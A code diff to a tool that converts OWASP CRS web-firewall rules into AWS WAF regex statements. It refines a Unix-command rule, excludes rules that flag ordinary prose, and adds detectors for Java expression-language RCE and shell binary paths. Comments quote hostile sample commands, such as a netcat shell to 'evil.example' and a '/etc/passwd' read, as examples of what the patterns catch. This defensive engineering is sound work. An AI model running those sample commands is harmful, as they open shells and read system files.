@@ -229,6 +229,43 @@ def load_data(rules_dir: Path, name: str) -> list[str]:
     return [ln.strip() for ln in lines if ln.strip() and not ln.startswith("#")]
 
 
+# -- refinements: CRS patterns that flag plain English, narrowed to the shell syntax that makes them attacks -------
+
+# CRS 932150 ("direct Unix command execution") fires on a value that *starts* with a Unix command word followed by
+# any whitespace: "cat food", "echo dot speaker", "python tutorial", "time to go" all look like commands to it. A
+# command is only dangerous where a shell parses it, so the refined rule asks for what a shell would see after the
+# word: an operator (; | & < > ` $( ) right after it; or a first argument only a command line has -- an option (-x,
+# --long), a path (/, ~/, ./, ../), a variable ($HOME, ${..}, $(..)), a quoted, escaped or globbed word, a URL, a
+# host name --; or later in the same value a shell operator (|, ;, `, &&, $( ), ${ }, a redirect to a path), an
+# option, an absolute path of two levels or more, an IPv4 address or a script file name ("wget evil.example/x -O
+# /tmp/x", "nc evil.example 4444 -e sh", "python exploit.py"). A word preceded by a path ("/bin/cat x") keeps CRS's
+# own condition: the path is already shell context. Commands after a separator (";cat x", "|id") are
+# 932100/932105/932106's class and are not affected.
+_CMD_PATH = r"""(?:[\?\*\[\]\(\)\-\|+\w'"\./\\\\]+/)?"""
+_CMD_TAIL = r"(?:\s|;|\||&|<|>)"
+SHELL_CONTEXT = (
+    r"(?:[;|&<>`]|\$\("
+    # the first argument: an option, a path, a variable, a quoted/escaped/globbed word, a pipe or list operator,
+    # a URL (also as second argument: "svn co http://.."), a host name ("nc evil.example 4444")
+    r"|\s+(?:--?[A-Za-z0-9]|[/~]|\.{1,2}/|\$[A-Za-z_{(]|['\"`\\*]|[;|]|&&"
+    r"|(?:\S+\s+)?[A-Za-z][A-Za-z0-9+.-]*://|[\w-]+(?:\.[\w-]+)*\.[A-Za-z]{2,}(?:[/:\s]|$))"
+    # later in the value: an operator, a redirect to a path, an option, an absolute path, an IPv4 address, a script
+    r"|\s.*(?:[|;`]|&&|\$[({]|[<>]\s*[/~&]|\s--?[A-Za-z][\w-]*(?:[\s=]|$)|\s/\w+/"
+    r"|\b\d{1,3}(?:\.\d{1,3}){3}\b|\.(?:sh|bash|pl|py|php|rb|elf|bin)\b))"
+)
+
+
+def _shell_context(regex: str) -> tuple[str, str]:
+    if not regex.endswith(_CMD_TAIL) or _CMD_PATH not in regex:
+        raise ValueError("932150's pattern changed: review the refinement")
+    with_path = regex.replace(_CMD_PATH, _CMD_PATH[:-1], 1)
+    in_context = regex[: -len(_CMD_TAIL)] + SHELL_CONTEXT
+    return f"(?:{with_path})|(?:{in_context})", "refined: a command word needs shell context (see SHELL_CONTEXT)"
+
+
+REFINED = {"932150": _shell_context}
+
+
 def operator_regex(rule: SecRule, rules_dir: Path) -> tuple[str | None, str]:
     op, arg = rule.operator, rule.argument
     if rule.negated:
@@ -236,7 +273,11 @@ def operator_regex(rule: SecRule, rules_dir: Path) -> tuple[str | None, str]:
     if "%{" in arg:
         return None, "macro in operand"
     if op == "rx":
-        return translate(arg)
+        regex, note = translate(arg)
+        if regex is not None and rule.id in REFINED:
+            regex, extra = REFINED[rule.id](regex)
+            note = "; ".join(x for x in (note, extra) if x)
+        return regex, note
     if op == "pm":
         return _words_regex(arg.split()), ""
     if op in ("pmFromFile", "pmf"):
@@ -421,6 +462,9 @@ ROUTES: list[tuple[int, int, list[tuple[str, str]]]] = [
     (913100, 913100, [(COMMON, "UserAgent_BadBots")]),
     (913110, 913110, [(COMMON, "UserAgent_BadBots")]),
     (913120, 913120, [(KBI, "ExploitablePaths")]),
+    # editor backup / working files (index.php~): the backup class of crs-setup's restricted_extensions (.bak, .old,
+    # .swp, ...), which AWS's RestrictedExtensions rule describes ("extensions that are unsafe to read or run")
+    (920500, 920500, [(COMMON, "RestrictedExtensions")]),
     (930100, 930110, [(COMMON, "GenericLFI"), (LINUX, "LFI")]),
     (930120, 930120, [(LINUX, "LFI"), (COMMON, "GenericLFI")]),
     (930130, 930130, [(KBI, "ExploitablePaths")]),
@@ -465,6 +509,11 @@ EXCLUDED: dict[str, str] = {
     "942310": "PL2 chained SQL injection (2 benign FPs)",
     "942200": "PL2 comment/space-obfuscated injections (JSON-like text: 1 benign FP)",
     "942260": "PL2 basic SQL authentication bypass (1 benign FP)",
+    "942110": 'PL2 quote at a value\'s start or end: exact-phrase searches ("red dress"), possessives (45 benign FPs)',
+    "942300": "PL2 'or'/'and' before a call-like word: prose such as 'red or blue(ish)' (27 benign FPs)",
+    "942410": "PL2 SQL function names before '(': prose such as 'the price is (roughly) $50' (31 benign FPs)",
+    "933161": "PL3 common PHP function names before '(': 'the 2-pack (not the 3-pack)' (30 benign FPs)",
+    "942510": "PL2 backtick-quoted words: Markdown code spans in comments ('run `npm install`': 12 benign FPs)",
 }
 
 # Paranoia levels: all CRS levels are candidates; the rules above are the ones that flag ordinary text.
@@ -502,6 +551,19 @@ def custom_statements(rules_dir: Path, setup: Path) -> dict[str, list[dict]]:
         r"(?i)(?:169\.254\.169\.254|\[?fd00:ec2::254\]?|2852039166|0xa9fea9fe|0251\.0376\.0251\.0376|169\.254\.170\.2)"
     )
     log4j = r"(?i)\$\{(?:[^}]*\$\{|\s*(?:jndi|j\}|lower:|upper:|env:|sys:|date:|::-)|[^}]*:(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)://)"
+    # Java RCE through expression languages and data binding, the class AWS's JavaDeserializationRCE rules name
+    # (Spring Core CVE-2022-22965: "class.module.classLoader" property binding; Spring Cloud Function CVE-2022-22963:
+    # a SpEL routing expression header), plus Struts 2 OGNL in headers (CVE-2017-5638: "%{(#..." in Content-Type);
+    # CRS 3.3.4's 944 rules name Java classes and serialized objects, not these.
+    java_el = (
+        r"(?i)(?:\bclass\.module\.classloader\b|%\{\s*\(?\s*#|#_memberaccess|@ognl\.|\bognl\.ognlcontext\b"
+        r"|#context\[)"
+    )
+    routing = {"SingleHeader": {"Name": "spring.cloud.function.routing-expression"}}
+    # a shell separator followed by an absolute path into a system binary directory (";/bin/ca? /et*/passwd"):
+    # shell context whatever the command name (CRS 932200's bypasses of the command word lists, without its
+    # wide quote/slash heuristic)
+    bin_path = r"(?:[;|&`\n]|\$\()\s*/(?:usr/(?:local/)?)?s?bin/\S"
     restricted = load_data(rules_dir, "restricted-files.data") + load_data(rules_dir, "scanners-urls.data")
     dec_uni, low = ["URL_DECODE_UNI"], ["URL_DECODE_UNI", "LOWERCASE"]
     return {
@@ -542,6 +604,16 @@ def custom_statements(rules_dir: Path, setup: Path) -> dict[str, list[dict]]:
         "Log4JRCE_BODY": [_rx(log4j, BODY, low)],
         "Log4JRCE_URIPATH": [_rx(log4j, URIPATH, low)],
         "Log4JRCE_HEADER": [_rx(log4j, _headers("VALUE"), low)],
+        "JavaDeserializationRCE_HEADER": [
+            _rx(java_el, _headers("VALUE"), dec_uni),
+            _rx(r"\bT\s*\(\s*[\w.$]+\s*\)", routing, dec_uni),  # a SpEL type reference: T(java.lang.Runtime)
+        ],
+        "JavaDeserializationRCE_QUERYSTRING": [_rx(java_el, QSTRING, dec_uni)],
+        "JavaDeserializationRCE_BODY": [_rx(java_el, BODY, dec_uni)],
+        "JavaDeserializationRCE_URIPATH": [_rx(java_el, URIPATH, dec_uni)],
+        "UNIXShellCommandsVariables_QUERYARGUMENTS": [_rx(bin_path, _args("QUERY", "ALL"), dec_uni)],
+        "UNIXShellCommandsVariables_BODY": [_rx(bin_path, _args("BODY", "ALL"), dec_uni)],
+        "UNIXShellCommandsVariables_HEADER": [_rx(bin_path, _headers("VALUE"), dec_uni)],
         "WordPressExploitableCommands_QUERYSTRING": [
             _rx(
                 r"(?i)(?:^|&)(?:action|do)=(?:do-reset-wordpress|delete-plugin|install-plugin|upload-plugin|"
